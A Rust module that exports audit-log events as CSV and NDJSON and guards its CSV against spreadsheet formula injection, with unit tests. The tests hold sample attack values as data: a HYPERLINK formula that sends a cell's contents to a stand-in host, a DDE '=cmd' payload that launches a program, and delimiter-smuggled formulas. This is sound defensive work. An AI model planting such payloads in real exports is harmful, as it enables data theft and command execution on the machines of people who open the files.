//! Exports of selected events: CSV of their [`Row`]s and NDJSON of their original JSON.
//!
//! CSV follows RFC 4180 (CRLF line ends, quotes doubled inside a quoted cell). Log fields are
//! attacker-controlled, and a spreadsheet may split on another delimiter than `,` (its locale's
//! `;`, a tab, `|`) or take `'` as a quote, so a cell holding any of these, `"`, CR or LF is
//! quoted: a reader of any of these delimiters keeps it one cell and cannot start a new cell
//! inside it. A cell a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`, their
//! full-width forms, tab, CR, LF or NUL; OWASP's list) gets a leading `'` and is quoted too.
//!
//! ```
//! use authtrail_core::export::{csv_header, csv_cell};
//!
//! let mut out = String::from(csv_header());
//! csv_cell(&mut out, "=HYPERLINK(\"http://x\")");
//! assert!(out.ends_with("\"'=HYPERLINK(\"\"http://x\"\")\""));
//! ```

use crate::time::format_iso;
use crate::Row;

/// The header line, CRLF-terminated: the [`Row`] fields in the order [`csv_rows`] writes them.
pub fn csv_header() -> &'static str {
    "time,source,kind,outcome,action,user,actor,ip,method,country\r\n"
}

/// Characters a spreadsheet reads as the start of a formula when a cell starts with one.
const FORMULA_START: [char; 12] = [
    '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}', '\t', '\r', '\n', '\0',
];

/// Delimiters and quotes of the CSV readers of common locales, and line ends.
const QUOTED: [char; 8] = [',', ';', '\t', '|', '"', '\'', '\r', '\n'];

/// Appends one cell: neutralised against formula injection, quoted when it holds a delimiter, a
/// quote or a line end of any common CSV dialect.
pub fn csv_cell(out: &mut String, value: &str) {
    let formula = value.starts_with(FORMULA_START);
    if !formula && !value.contains(QUOTED) {
        out.push_str(value);
        return;
    }
    out.push('"');
    if formula {
        out.push('\'');
    }
    for c in value.chars() {
        if c == '"' {
            out.push('"');
        }
        out.push(c);
    }
    out.push('"');
}

/// Appends one CRLF-terminated line per row (time as ISO-8601 UTC with milliseconds).
pub fn csv_rows(out: &mut String, rows: &[Row]) {
    for r in rows {
        out.push_str(&format_iso(r.time));
        for value in [
            r.source, r.kind, r.outcome, &r.action, &r.user, &r.actor, &r.ip, &r.method, &r.country,
        ] {
            out.push(',');
            csv_cell(out, value);
        }
        out.push_str("\r\n");
    }
}

/// Appends an event's original JSON as one NDJSON line: a pretty-printed record's line breaks
/// (whitespace between JSON tokens; a JSON string cannot hold a raw one) become spaces.
pub fn ndjson_line(out: &mut Vec<u8>, original: &[u8]) {
    out.extend(original.iter().map(|&b| match b {
        b'\r' | b'\n' => b' ',
        b => b,
    }));
    out.push(b'\n');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(v: &str) -> String {
        let mut s = String::new();
        csv_cell(&mut s, v);
        s
    }

    #[test]
    fn formula_cells_are_neutralised_and_quoted() {
        assert_eq!(cell("+1"), "\"'+1\"");
        assert_eq!(cell("-2"), "\"'-2\"");
        assert_eq!(cell("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
        assert_eq!(cell("=1+1"), "\"'=1+1\"");
        assert_eq!(cell("\tx"), "\"'\tx\"");
        assert_eq!(cell("\r=1"), "\"'\r=1\"");
        assert_eq!(cell("\n=1"), "\"'\n=1\"");
        assert_eq!(cell("\0=1"), "\"'\0=1\"");
        // Full-width forms, which some locales' spreadsheets read as formulas.
        assert_eq!(cell("\u{ff1d}1+1"), "\"'\u{ff1d}1+1\"");
        assert_eq!(cell("\u{ff20}SUM(A1)"), "\"'\u{ff20}SUM(A1)\"");
        assert_eq!(
            cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
        );
        // Only the first character counts.
        assert_eq!(cell("a=b"), "a=b");
        assert_eq!(cell("203.0.113.7"), "203.0.113.7");
    }

    #[test]
    fn delimiters_quotes_and_line_ends_are_quoted() {
        assert_eq!(cell("plain"), "plain");
        assert_eq!(cell(""), "");
        assert_eq!(cell("a,b"), "\"a,b\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(cell("two\nlines"), "\"two\nlines\"");
        assert_eq!(cell("cr\rlf\r\n"), "\"cr\rlf\r\n\"");
        assert_eq!(cell("a|b"), "\"a|b\"");
        assert_eq!(cell("a\tb"), "\"a\tb\"");
        assert_eq!(cell("O'Brien"), "\"O'Brien\"");
    }

    /// `x;=cmd` was written bare, so a reader splitting on `;` (the delimiter of locales whose
    /// decimal separator is a comma) got a cell `=cmd` and ran it; the same with a tab or `|`.
    #[test]
    fn csv_cell_with_semicolon_or_tab_is_quoted_so_no_formula_starts_after_it() {
        for (value, written) in [
            ("x;=cmd", "\"x;=cmd\""),
            ("x\t=cmd", "\"x\t=cmd\""),
            ("x|=cmd", "\"x|=cmd\""),
            ("x;@SUM(1+1);-2", "\"x;@SUM(1+1);-2\""),
        ] {
            assert_eq!(cell(value), written);
            // Read back by an RFC 4180 reader splitting on each delimiter, the cell is whole.
            for delimiter in [',', ';', '\t', '|'] {
                assert_eq!(
                    read_cells(&cell(value), delimiter),
                    [value],
                    "{value:?} split on {delimiter:?}"
                );
            }
        }
    }

    /// The cells of one CSV line as an RFC 4180 reader splitting on `delimiter` gives them.
    fn read_cells(line: &str, delimiter: char) -> Vec<String> {
        let mut cells = vec![String::new()];
        let mut quoted = false;
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => {
                    chars.next();
                    cells.last_mut().unwrap().push('"');
                }
                '"' => quoted = !quoted,
                c if c == delimiter && !quoted => cells.push(String::new()),
                c => cells.last_mut().unwrap().push(c),
            }
        }
        cells
    }

    #[test]
    fn rows_follow_the_header() {
        let row = Row {
            index: 3,
            time: 1_574_812_981_800,
            kind: "login",
            source: "Activity Tracker",
            outcome: "failure",
            action: "iam-identity.user-apikey.login".into(),
            user: "=cmd|' /C calc'!A0".into(),
            actor: "a,\"b\"".into(),
            ip: "203.0.113.7".into(),
            method: "-".into(),
            country: "multi\nline".into(),
        };
        let mut out = String::from(csv_header());
        csv_rows(&mut out, &[row]);
        assert_eq!(
            out,
            "time,source,kind,outcome,action,user,actor,ip,method,country\r\n\
             2019-11-27T00:03:01.800Z,Activity Tracker,login,failure,iam-identity.user-apikey.login,\
             \"'=cmd|' /C calc'!A0\",\"a,\"\"b\"\"\",203.0.113.7,\"'-\",\"multi\nline\"\r\n"
        );
    }

    #[test]
    fn ndjson_lines_are_single_lines() {
        let mut out = Vec::new();
        ndjson_line(&mut out, b"{\r\n  \"a\": \"x\\ny\"\n}");
        ndjson_line(&mut out, br#"{"b":1}"#);
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines, ["{    \"a\": \"x\\ny\" }", r#"{"b":1}"#]);
        let v: serde_json::Value = serde_json::from_str(lines[0]).unwrap();
        assert_eq!(v["a"], "x\ny");
    }
}
